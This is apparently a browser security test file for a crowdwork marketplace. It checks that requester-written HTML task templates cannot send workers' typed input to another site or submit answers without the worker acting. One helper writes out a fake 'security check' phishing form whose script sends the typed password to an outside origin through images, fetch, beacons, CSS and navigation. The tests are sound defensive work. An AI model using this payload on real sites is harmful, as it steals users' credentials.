"""HTML templates cannot send what the worker types to another site, nor submit without the worker (security issue:
a "security check" template sent the typed password out through `img-src https:`, and one opened task submitted
five tasks by itself in 4 s).

The frame may load from and send to this site and `data:` only (plus the https origins the requester declares,
which the job page lists), the parent page's `frame-src 'self'` stops it from navigating itself elsewhere, and the
parent page submits an answer only while the worker has just acted (their click or key press).
"""

import ssl
import subprocess
import time
from http.server import BaseHTTPRequestHandler

import pytest
from playwright.sync_api import expect

from marketplace import services
from tasks.models import Assignment, AssignmentStatus
from tasks.services import tasks_add
from tests.browser.helpers import log_in
from tests.factories import PASSWORD, make_user
from tests.http_servers import LoopbackServer

pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True)]


@pytest.fixture(scope="module")
def localhost_certificate(tmp_path_factory):
    """A self-signed certificate for `localhost`: the recording site must be https, since https hosts are what the
    old policy (`img-src data: https:`) let any template reach."""
    folder = tmp_path_factory.mktemp("tls")
    subprocess.run(
        ["openssl", "req", "-x509", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:prime256v1", "-nodes",
         "-keyout", "key.pem", "-out", "cert.pem", "-days", "2", "-subj", "/CN=localhost",
         "-addext", "subjectAltName=DNS:localhost"],
        cwd=folder, check=True, capture_output=True,
    )  # fmt: skip
    return folder


class Recorder(LoopbackServer):
    """Another site (https://localhost:<port>, another origin than the live server's 127.0.0.1) that records every
    request it gets: what a template's author would run to collect what workers type."""

    def __init__(self, certificate_folder) -> None:
        self.paths: list[str] = []
        recorder = self

        class Handler(BaseHTTPRequestHandler):
            def log_message(self, *args) -> None:
                pass

            def do_GET(self) -> None:
                recorder.paths.append(self.path)
                self.send_response(200)
                self.send_header("Content-Type", "image/gif")
                self.send_header("Access-Control-Allow-Origin", "*")
                self.end_headers()
                self.wfile.write(PIXEL)

            do_POST = do_GET  # noqa: N815 - the name BaseHTTPRequestHandler looks up

        context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
        context.load_cert_chain(certificate_folder / "cert.pem", certificate_folder / "key.pem")
        super().__init__(Handler, tls_context=context)

    @property
    def origin(self) -> str:
        return f"https://localhost:{self.port}"


PIXEL = (
    b"GIF89a\x01\x00\x01\x00\x80\x00\x00\x00\x00\x00\xff\xff\xff!\xf9\x04\x01\x00\x00\x00\x00,\x00\x00\x00\x00"
    b"\x01\x00\x01\x00\x00\x02\x02D\x01\x00;"
)


@pytest.fixture
def trusting_page(chromium, live_server):
    """A page whose browser accepts the recorder's self-signed certificate."""
    context = chromium.new_context(base_url=live_server.url, ignore_https_errors=True)
    context.set_default_timeout(15_000)
    yield context.new_page()
    context.close()


def html_job(requester, template: str, *, tasks: int = 1, asset_hosts=None):
    job = services.job_create(
        requester=requester, title="Check your account", description="A task.", reward_msat=20_000
    )
    services.job_set_html_template(job=job, actor=requester, html_template=template, asset_hosts=asset_hosts or [])
    tasks_add(job=job, actor=requester, columns=["n"], rows=[{"n": str(n)} for n in range(1, tasks + 1)])
    return services.job_publish(job=job, actor=requester)


def start_working(new_page, job):
    make_user("wendy")
    page = new_page()
    log_in(page, "wendy", PASSWORD)
    page.goto(f"/jobs/{job.public_id}/")
    page.get_by_role("button", name="Start working").click()
    return page


def exfiltrating_template(site: str) -> str:
    return f"""
    <h2>Security check</h2>
    <form>
      <label for="password">Your Boltwork password</label>
      <input id="password" name="password" type="password">
      <button type="button" id="check">Check</button>
    </form>
    <div id="styled">x</div>
    <script>
      var site = "{site}";
      document.getElementById("check").addEventListener("click", function () {{
        var secret = encodeURIComponent(document.getElementById("password").value);
        new Image().src = site + "/img?" + secret;
        fetch(site + "/fetch?" + secret).catch(function () {{}});
        if (navigator.sendBeacon) {{ navigator.sendBeacon(site + "/beacon?" + secret); }}
        document.getElementById("styled").style.backgroundImage = "url(" + site + "/css?" + secret + ")";
        var link = document.createElement("link");
        link.rel = "stylesheet"; link.href = site + "/style?" + secret; document.head.appendChild(link);
        setTimeout(function () {{ location.href = site + "/navigate?" + secret; }}, 300);
      }});
    </script>
    """


def type_password_and_check(page, job) -> None:
    make_user("wendy")
    log_in(page, "wendy", PASSWORD)
    page.goto(f"/jobs/{job.public_id}/")
    page.get_by_role("button", name="Start working").click()
    frame = page.frame_locator("#task-frame")
    frame.get_by_label("Your Boltwork password").fill("hunter2")
    frame.get_by_role("button", name="Check").click()
    time.sleep(1.5)


def test_what_the_worker_types_cannot_leave_for_another_site(trusting_page, localhost_certificate):
    with Recorder(localhost_certificate) as outside:
        job = html_job(make_user("ada"), exfiltrating_template(outside.origin))

        type_password_and_check(trusting_page, job)

        assert outside.paths == []  # was: /img?hunter2 (any https host could be reached)


def test_a_declared_asset_host_is_reachable_as_the_job_page_says(trusting_page, localhost_certificate):
    """The same template and recorder with the recorder declared: the requests do arrive, so the test above is not
    passing for want of a working recorder."""
    with Recorder(localhost_certificate) as outside:
        job = html_job(make_user("ada"), exfiltrating_template(outside.origin), asset_hosts=[outside.origin])

        type_password_and_check(trusting_page, job)

        assert "/img?hunter2" in outside.paths
        assert "/navigate?hunter2" not in outside.paths  # navigating away stays blocked by the page's frame-src


# Playwright's own queries into a page (`expect(...)`, `locator(...)`) run with a user gesture, which would count
# as the worker acting: the tests below only wait, and look at the page after the template's timer has fired.
SETTLE = 2.5


def test_a_template_that_submits_by_itself_is_not_submitted_until_the_worker_acts(new_page):
    template = """
    <h2>Task ${n}</h2>
    <form><input name="answer" value="auto"><button type="submit">Send</button></form>
    <script>setTimeout(function () { document.forms[0].requestSubmit(); }, 800);</script>
    """
    job = html_job(make_user("ada"), template, tasks=2)
    page = start_working(new_page, job)
    page.wait_for_url("**/work/assignments/*/")
    time.sleep(SETTLE)

    assert list(Assignment.objects.values_list("status", flat=True)) == [AssignmentStatus.ACCEPTED]
    expect(page.get_by_text("The task tried to send an answer by itself")).to_be_visible()

    # The worker's own click on the template's button submits.
    page.frame_locator("#task-frame").get_by_role("button", name="Send").click()
    expect(page.get_by_text("Submitted. Thank you!")).to_be_visible()
    assert list(Assignment.objects.values_list("status", flat=True)) == [AssignmentStatus.SUBMITTED]


def test_taking_the_next_task_needs_the_worker_each_time(new_page):
    template = """
    <h2>Task ${n}</h2>
    <form><input name="answer" value="auto"></form>
    <script>setTimeout(function () { document.forms[0].requestSubmit(); }, 800);</script>
    """
    job = html_job(make_user("ada"), template, tasks=3)
    page = start_working(new_page, job)
    page.wait_for_url("**/work/assignments/*/")
    first_task_url = page.url
    time.sleep(SETTLE)

    page.get_by_role("button", name="Submit and take the next task").click()
    page.wait_for_url(lambda url: url != first_task_url and "/work/assignments/" in url)
    time.sleep(SETTLE)

    statuses = sorted(Assignment.objects.values_list("status", flat=True))
    assert statuses == [AssignmentStatus.ACCEPTED, AssignmentStatus.SUBMITTED]  # was: every task, one after another
    expect(page.get_by_text("The task tried to send an answer by itself")).to_be_visible()


def test_declared_asset_hosts_are_shown_to_workers_and_allowed_in_the_frame(new_page):
    job = html_job(
        make_user("ada"),
        "<form><input name='a'></form>",
        asset_hosts=["https://assets.crowd.example", "https://fonts.example:8443"],
    )
    page = start_working(new_page, job)

    page.goto(f"/jobs/{job.public_id}/")
    expect(page.get_by_text("These sites besides Boltwork", exact=False)).to_be_visible()
    expect(page.locator(".asset-hosts code")).to_have_text(
        ["https://assets.crowd.example", "https://fonts.example:8443"]
    )
